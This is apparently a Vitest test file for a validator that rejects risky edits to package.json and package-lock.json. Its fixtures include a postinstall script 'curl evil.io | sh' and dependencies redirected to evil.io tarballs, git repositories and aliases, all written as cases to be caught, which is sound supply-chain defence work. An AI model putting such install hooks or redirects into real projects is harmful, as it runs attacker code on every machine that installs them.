import { describe, expect, it } from 'vitest';

import { judgePackageChange } from './judge-package-change';

const MANIFEST = { name: 'shop', scripts: { test: 'vitest' }, dependencies: { zod: '4.0.0' } };

function judgeManifestChange(after: unknown): string {
  const texts = { before: JSON.stringify(MANIFEST), after: JSON.stringify(after) };
  return judgePackageChange({ path: 'api/package.json', ...texts }).join('\n');
}

const entry = (name: string, version: string, overrides: object = {}): object => ({
  version,
  resolved: `https://registry.npmjs.org/${name}/-/${name.split('/').at(-1) ?? ''}-${version}.tgz`,
  integrity: `sha512-${name}-${version}`,
  license: 'MIT',
  ...overrides,
});

const BEFORE = { '': { name: 'shop' }, 'node_modules/zod': entry('zod', '4.0.0') };

function judgeLockChange(added: Readonly<Record<string, object>>): string {
  const text = (packages: object): string => JSON.stringify({ lockfileVersion: 3, packages });
  const texts = { before: text(BEFORE), after: text({ ...BEFORE, ...added }) };
  return judgePackageChange({ path: 'package-lock.json', ...texts }).join('\n');
}

describe('a manifest', () => {
  it('may gain packages by their versions', () => {
    const dependencies = { ...MANIFEST.dependencies, leven: '^4.1.0' };
    expect(judgeManifestChange({ ...MANIFEST, dependencies, devDependencies: { tsx: '4.0.0-beta.1' } })).toBe('');
  });

  it.each([
    ['a script', { ...MANIFEST, scripts: { test: 'vitest', postinstall: 'curl evil.io | sh' } }, 'changes scripts'],
    ['an override', { ...MANIFEST, overrides: { zod: '3.0.0' } }, 'changes overrides'],
    ['another version', { ...MANIFEST, dependencies: { zod: '3.0.0' } }, 'changes or loses zod'],
    ['a package less', { ...MANIFEST, dependencies: {} }, 'changes or loses zod'],
    ['an address', { ...MANIFEST, devDependencies: { x: 'https://evil.io/x.tgz' } }, 'which is no version'],
    ['another repository', { ...MANIFEST, devDependencies: { x: 'github:evil/x' } }, 'which is no version'],
    ['an alias', { ...MANIFEST, devDependencies: { x: 'npm:evil@1.0.0' } }, 'which is no version'],
    ['whatever is newest', { ...MANIFEST, devDependencies: { x: '*' } }, 'which is no version'],
    ['no manifest', [], 'is no manifest'],
  ])('may not gain %s', (_, after, expected) => {
    expect(judgeManifestChange(after)).toContain(expected);
  });

  it('neither appears nor goes', () => {
    expect(judgePackageChange({ path: 'package.json', before: undefined, after: '{}' })).toEqual([
      'package.json: must be there before and after',
    ]);
  });
});

describe('a lock file', () => {
  it('may gain packages of the registry, and packages that it has, elsewhere', () => {
    const added = {
      'node_modules/@scope/one': entry('@scope/one', '1.0.0'),
      'node_modules/@scope/one/node_modules/zod': entry('zod', '4.0.0'),
      'node_modules/two': entry('two', '2.0.0', { resolved: undefined, dev: true, license: 'MPL-2.0' }),
    };
    expect(judgeLockChange(added)).toBe('');
  });

  it.each([
    [
      'another archive for a version it has',
      { 'node_modules/zod': entry('zod', '4.0.0', { resolved: 'https://registry.npmjs.org/evil/-/evil-4.0.0.tgz' }) },
      'archive of another package',
    ],
    [
      'other bytes without a hash',
      { 'node_modules/zod': entry('zod', '4.0.0', { integrity: undefined }) },
      'without the hash',
    ],
    [
      'a strange host',
      { 'node_modules/x': entry('x', '1.0.0', { resolved: 'https://evil.io/x/-/x-1.0.0.tgz' }) },
      'where no package of the tree comes from',
    ],
    [
      'a plain connection',
      { 'node_modules/x': entry('x', '1.0.0', { resolved: 'http://registry.npmjs.org/x/-/x-1.0.0.tgz' }) },
      'where no package',
    ],
    [
      'a repository',
      { 'node_modules/x': entry('x', '1.0.0', { resolved: 'git+ssh://git@github.com/evil/x.git#1' }) },
      'where no package',
    ],
    ['a link', { 'node_modules/x': { resolved: '../evil', link: true } }, 'is added as a link'],
    ['an alias', { 'node_modules/x': entry('evil', '1.0.0', { name: 'evil' }) }, 'another name of evil'],
    ['a licence', { 'node_modules/x': entry('x', '1.0.0', { license: 'AGPL-3.0-only' }) }, 'AGPL-3.0-only'],
  ])('may not gain %s', (_, added, expected) => {
    expect(judgeLockChange(added)).toContain(expected);
  });

  it('stays one', () => {
    expect(judgePackageChange({ path: 'package-lock.json', before: '{}', after: '{}' })[0]).toContain(
      'is no lock file',
    );
  });
});
